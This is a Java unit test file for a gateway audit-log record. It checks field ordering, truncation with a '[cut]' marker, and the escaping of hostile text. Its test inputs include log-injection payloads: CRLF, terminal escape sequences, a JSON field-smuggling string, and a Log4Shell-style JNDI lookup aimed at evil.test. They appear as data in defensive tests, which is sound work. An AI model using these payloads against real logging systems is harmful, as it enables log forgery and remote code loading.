package dev.sallyport.gateway.audit;

import static org.assertj.core.api.Assertions.assertThat;

import dev.sallyport.json.Json;
import dev.sallyport.json.JsonArray;
import dev.sallyport.json.JsonLimits;
import dev.sallyport.json.JsonNode;
import dev.sallyport.json.JsonObject;
import dev.sallyport.json.JsonString;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.Collections;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class AuditRecordTest {
    private static final Instant NOW = Instant.parse("2026-03-01T12:00:00Z");

    @Test
    void fieldsComeInOneOrderHoweverTheyWereSet() {
        String line = AuditRecord.ofRequest(NOW)
                .set(AuditField.LATENCY_MICROS, 1234)
                .set(AuditField.DECISION, "denied")
                .set(AuditField.METHOD, "GET")
                .set(AuditField.SOURCE_IDENTITY, Optional.empty())
                .set(AuditField.DECISION, "allowed")
                .toString();

        assertThat(line)
                .isEqualTo("{\"time\":\"2026-03-01T12:00:00Z\",\"kind\":\"request\",\"method\":\"GET\","
                        + "\"decision\":\"allowed\",\"latencyMicros\":1234}");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a\r\nb",
                "\u2028\u2029\u0085",
                "\u001b[31mred\u001b]8;;http://evil.test\u0007link\u001b]8;;\u0007",
                "\",\"decision\":\"allowed\",\"x\":\"",
                "\u202e\u2066abc",
                "${jndi:ldap://evil.test/a}",
                "\u0000\ufeff\ufffe",
                "back\\slash\"quote",
                "%n%msg{}"
            })
    void hostileTextStaysInItsFieldOnOneLine(String text) {
        byte[] line = AuditRecord.ofRequest(NOW).set(AuditField.REASON, text).line();

        String asText = new String(line, StandardCharsets.UTF_8);
        assertThat(asText.strip().lines()).hasSize(1);
        assertThat(asText).endsWith("}\n").doesNotContain("\u001b", "\u2028", "\u0085", "\u0007", "\u0000");
        JsonObject parsed = (JsonObject) Json.parse(asText.strip(), JsonLimits.DEFAULT);
        assertThat(parsed.members().stream().map(JsonObject.Member::name)).containsExactly("time", "kind", "reason");
        assertThat(((JsonString) parsed.get("reason").orElseThrow()).value()).isEqualTo(text);
    }

    @Test
    void aLoneSurrogateDoesNotBreakTheLine() {
        String line =
                AuditRecord.ofRequest(NOW).set(AuditField.REASON, "a\ud800b").toString();

        assertThat(line).contains("a\\ud800b");
    }

    @Test
    void longValuesAreCutAndSaySo() {
        int max = AuditField.USER_AGENT.maxCharacters();

        assertThat(AuditRecord.ofRequest(NOW)
                        .set(AuditField.USER_AGENT, "x".repeat(max))
                        .toString())
                .contains("\"" + "x".repeat(max) + "\"");
        assertThat(AuditRecord.ofRequest(NOW)
                        .set(AuditField.USER_AGENT, "x".repeat(max + 1))
                        .toString())
                .contains("\"" + "x".repeat(max) + "[cut]\"");
        assertThat(AuditRecord.ofRequest(NOW)
                        .set(AuditField.USER_AGENT, "x".repeat(max - 1) + "\ud83d\ude00x")
                        .toString())
                .contains("\"" + "x".repeat(max - 1) + "[cut]\"");
    }

    @Test
    void longListsAreCutAndSaySo() {
        JsonNode line = Json.parse(
                AuditRecord.ofRequest(NOW)
                        .set(AuditField.SESSION_TAGS, Collections.nCopies(65, "a=b"))
                        .toString(),
                JsonLimits.DEFAULT);

        List<JsonNode> tags =
                ((JsonArray) ((JsonObject) line).get("sessionTags").orElseThrow()).elements();
        assertThat(tags).hasSize(65);
        assertThat(((JsonString) tags.get(64)).value()).isEqualTo("[cut]");
    }
}
